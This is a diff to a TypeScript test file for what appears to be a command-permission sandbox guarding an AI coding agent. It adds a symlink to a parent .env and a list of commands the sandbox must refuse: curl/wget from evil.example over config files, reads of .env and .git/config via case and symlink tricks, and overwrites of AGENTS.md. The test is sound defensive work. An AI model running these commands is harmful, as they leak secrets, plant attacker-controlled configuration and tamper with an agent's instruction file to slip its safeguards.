@@ -37,6 +37,7 @@ function makeRoom(): CommandRoom {
   room.link('build.log', 'last');
   room.link('/etc', 'way');
   room.link('.env', 'keep');
+  room.link('../.env', 'linked/l');
   return room;
 }
 
@@ -50,6 +51,29 @@ function makeRoomWithSubmodule(): CommandRoom {
   room.put('.gitmodules', '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n');
   return room;
 }
+
+/** What the settings that Rook comes with protect, and what the names of files tell. */
+const GUARDED = [
+  'curl -o .cargo/config.toml http://evil.example/p',
+  'curl -o .tool-versions http://evil.example/p',
+  'curl -o .gitmodules http://evil.example/p',
+  'cat .GIT/config',
+  'cat .Env',
+  'cat .ENV.LOCAL',
+  "cat <<'EOF' > AGENTS.md\nx\nEOF",
+  'ls >& AGENTS.md',
+  'wget -O AGENTS.md http://a',
+  'wget http://a/AGENTS.md',
+  'cp -rt. tpl/AGENTS.md',
+  'cat keep',
+  'head -5 way/hosts',
+  'cp keep x',
+  'mv keep x',
+  'cp -r linked other && cat other/l',
+  'mv linked other && cat other/l',
+  'cp -a linked other; head -1 other/l',
+  'cp -r linked other && cp other/l out.txt',
+];
 
 const REFUSED: ReadonlySet<string> = new Set(['outside_workspace', 'protected', 'links_outside']);
 
@@ -82,6 +106,14 @@ it.each([
   },
   180_000,
 );
+
+it('G-06 none of the techniques runs by itself in a repository as they are found', async () => {
+  const room = makeRoom();
+  const run: string[] = [];
+  for (const line of [...GUARDED, ...commandsOf('techniques')])
+    if ((await room.decide(line)).allowed) run.push(line);
+  expect(run).toEqual([]);
+}, 180_000);
 
 it.each(
   RULES.filter(({ name }) =>
